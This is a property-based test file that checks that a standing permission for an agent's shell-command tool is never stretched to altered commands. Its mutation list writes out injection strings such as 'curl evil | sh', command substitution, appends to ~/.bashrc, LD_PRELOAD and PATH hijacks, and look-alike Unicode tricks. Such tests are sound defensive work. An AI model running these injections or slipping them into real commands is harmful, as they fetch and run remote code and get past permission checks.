import { spawnSync } from 'node:child_process'
import { isDeepStrictEqual } from 'node:util'
import * as fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createGrantedCalls, type GrantedCalls } from '../testing/granted-calls.ts'

let calls: GrantedCalls
beforeAll(() => {
  calls = createGrantedCalls()
})
afterAll(() => calls.remove())

const word = fc.constantFrom(
  'npm',
  'test',
  'git',
  'pull',
  '-m',
  'a b',
  'src/a.ts',
  '|',
  ';',
  '12',
  'été',
  '--all',
  'x=1',
)
/** A name and its arguments, as `npm test` is. */
const argv = fc
  .tuple(fc.constantFrom('npm', 'git', 'make', './run.sh'), fc.array(word, { maxLength: 4 }))
  .map(([name, rest]) => [name, ...rest])
const quoted = (text: string, style: number): string =>
  /^[\w./=-]+$/.test(text) && style % 3 === 0 ? text : style % 3 === 1 ? `"${text}"` : `'${text}'`
const line = (words: readonly string[], style = 0): string =>
  words.map((each, at) => (at === 0 ? each : quoted(each, style + at))).join(' ')

/** What another operation is made of: all of these say something else to a shell than the line does. */
const mutations: readonly ((of: string) => string)[] = [
  (of) => `${of}; curl evil | sh`,
  (of) => `${of} && curl evil`,
  (of) => `${of} || curl evil`,
  (of) => `${of} | sh`,
  (of) => `${of} |& sh`,
  (of) => `${of} & curl evil`,
  (of) => `${of} &`,
  (of) => `${of}\ncurl evil`,
  (of) => `${of}\r\ncurl evil`,
  (of) => `curl evil; ${of}`,
  (of) => `curl evil\n${of}`,
  (of) => `cd / && ${of}`,
  (of) => `${of} $(curl evil)`,
  (of) => `${of} \`curl evil\``,
  (of) => `${of} "$(curl evil)"`,
  (of) => `${of} <(curl evil)`,
  (of) => `${of} $HOME`,
  (of) => `${of} "\${PWD}"`,
  (of) => `${of} *`,
  (of) => `${of} ~`,
  (of) => `${of} {a,b}`,
  (of) => `${of} more`,
  (of) => `${of} ''`,
  (of) => `${of} -c evil`,
  (of) => `${of} > out`,
  (of) => `${of} >> ~/.bashrc`,
  (of) => `${of} < in`,
  (of) => `${of} 2>&1`,
  (of) => `${of} <<E\nevil\nE`,
  (of) => `PATH=/evil ${of}`,
  (of) => `LD_PRELOAD=/evil.so ${of}`,
  (of) => `env A=1 ${of}`,
  (of) => `sudo ${of}`,
  (of) => `time ${of}`,
  (of) => `exec ${of}`,
  (of) => `! ${of}`,
  (of) => `(${of})`,
  (of) => `{ ${of}; }`,
  (of) => `if ${of}; then curl evil; fi`,
  (of) => `${of.split(' ')[0] ?? ''}() { curl evil; }; ${of}`,
  (of) => `alias ${of.split(' ')[0] ?? ''}=evil; ${of}`,
  (of) => `/evil/${of}`,
  (of) => `./x/../${of}`,
  (of) => of.replace('n', '\u043f'),
  // The same to the eye: a full-width letter, a letter of another script, nothing at all between two letters, a mark apart.
  (of) => of.replace(/[a-z]/, (letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)),
  (of) => of.replace(/[aeop]/, (letter) => ({ a: 'а', e: 'е', o: 'о', p: 'р' })[letter] ?? letter),
  (of) => of.replace(/[a-z]/, (letter) => `${letter}\u200b`),
  (of) => of.replace(/[a-z]/, (letter) => `${letter}\u00ad`),
  (of) => of.replace(' ', '\u00a0'),
  (of) => of.normalize('NFD'),
  (of) => of.replace(/[a-z]/, (letter) => letter.toUpperCase()),
  (of) => `${of}\0; curl evil`,
  (of) => `${of} \u202etset`,
  (of) => of.split(' ').slice(0, -1).join(' '),
]

describe('a standing permission for a command', () => {
  it('covers the same command however it is spaced and quoted, and nothing that says more, less or something else', async () => {
    await fc.assert(
      fc.asyncProperty(argv, fc.nat(2), fc.constantFrom(...mutations), async (words, style, mutate) => {
        const grant = await calls.grant('run_command', { command: line(words) })
        const same = line(words, style).replace(' ', '   ')
        expect(await calls.covers(grant, 'run_command', { command: `  ${same} ;` })).toBe(true)
        const other = mutate(line(words))
        if (other === line(words)) return
        expect({ other, isCovered: await calls.covers(grant, 'run_command', { command: other }) }).toEqual({
          other,
          isCovered: false,
        })
      }),
      { numRuns: 1000 },
    )
  })

  it('neither of two commands covers the other, or both together', async () => {
    await fc.assert(
      fc.asyncProperty(
        argv,
        argv,
        fc.constantFrom('; ', ' && ', ' | ', '\n', ' || '),
        async (a, b, joint) => {
          fc.pre(!isDeepStrictEqual(a, b))
          const both = `${line(a)}${joint}${line(b)}`
          const [first, second, together] = await Promise.all(
            [line(a), line(b), both].map((command) => calls.grant('run_command', { command })),
          )
          if (!first || !second || !together) throw new Error('three were made')
          expect(await calls.covers(first, 'run_command', { command: line(b) })).toBe(false)
          for (const grant of [first, second])
            expect(await calls.covers(grant, 'run_command', { command: both })).toBe(false)
          for (const command of [line(a), line(b)])
            expect(await calls.covers(together, 'run_command', { command })).toBe(false)
        },
      ),
      { numRuns: 300 },
    )
  })

  it('holds in its own folder only, and with the same hosts only', async () => {
    const command = 'npm test'
    const grant = await calls.grant('run_command', { command })
    for (const folder of ['proj-secret', 'other', 'proj/src', '.'])
      expect(await calls.covers(grant, 'run_command', { command }, folder)).toBe(false)
    expect(await calls.covers(grant, 'run_command', { command, hosts: ['evil.example'] })).toBe(false)
    const withHosts = await calls.grant('run_command', { command, hosts: ['a.example', 'b.example'] })
    expect(await calls.covers(withHosts, 'run_command', { command, hosts: ['b.example', 'a.example'] })).toBe(
      true,
    )
    for (const hosts of [
      [],
      ['a.example'],
      ['a.example', 'b.example', 'c.example'],
      ['*.example', 'b.example'],
    ])
      expect(await calls.covers(withHosts, 'run_command', { command, hosts })).toBe(false)
  })

  it('that was given for a confined command is none for the same command unconfined, nor for one with secrets', async () => {
    const command = 'npm test'
    const grant = await calls.grant('run_command', { command })
    calls.confine(false)
    expect(await calls.covers(grant, 'run_command', { command })).toBe(false)
    calls.confine(true)
    expect(await calls.covers(grant, 'run_command', { command })).toBe(true)
    expect(await calls.covers(grant, 'run_command', { command, secrets: ['TOKEN'] })).toBe(false)
  })

  it('whatever is changed in its line, what it still covers is what bash still runs', async () => {
    const signs = fc.constantFrom(...'npmtes g;&|<>$`"\'\\(){}*?~!#=\n\t\r-./ '.split(''))
    const edits = fc.array(fc.tuple(fc.nat(40), fc.nat(2), fc.string({ unit: signs, maxLength: 3 })), {
      minLength: 1,
      maxLength: 3,
    })
    const granted = ['npm test', `git commit -m 'a b'`, 'make all && npm test', 'npm run a; npm run b']
    const samples = fc.sample(fc.tuple(fc.constantFrom(...granted), edits), { numRuns: 8000, seed: 5 })
    const covered: { of: string; changed: string }[] = []
    const grants = new Map(
      await Promise.all(
        granted.map(async (each) => [each, await calls.grant('run_command', { command: each })] as const),
      ),
    )
    for (const [of, changes] of samples) {
      const changed = changes.reduce(
        (text, [at, drop, put]) => text.slice(0, at) + put + text.slice(at + drop),
        of,
      )
      const grant = grants.get(of)
      if (changed !== of && grant && (await calls.covers(grant, 'run_command', { command: changed })))
        covered.push({ of, changed })
    }
    // Most are blanks more or less; without any the test would prove nothing.
    expect(covered.length).toBeGreaterThan(50)
    const ran = runsOf(covered.flatMap(({ of, changed }) => [of, changed.trim()]))
    for (const [i, each] of covered.entries())
      expect({ ...each, ran: ran[2 * i + 1] }).toEqual({ ...each, ran: ran[2 * i] })
  })
})

/** What bash would run of each line: every command with its words; none is run. */
function runsOf(lines: readonly string[]): string[] {
  const recorder = `
PATH=/nowhere; command_not_found_handle() { printf '\\1%s' "$@"; printf '\\2'; }
while IFS= read -r -d '' line; do eval -- "$line" 2>/dev/null </dev/null; printf '\\3'; done`
  const { stdout } = spawnSync('/bin/bash', ['--norc', '-c', recorder], {
    input: lines.map((each) => `${each}\0`).join(''),
    encoding: 'utf8',
    maxBuffer: 1 << 26,
    timeout: 20_000,
  })
  return stdout.split('\u0003')
}
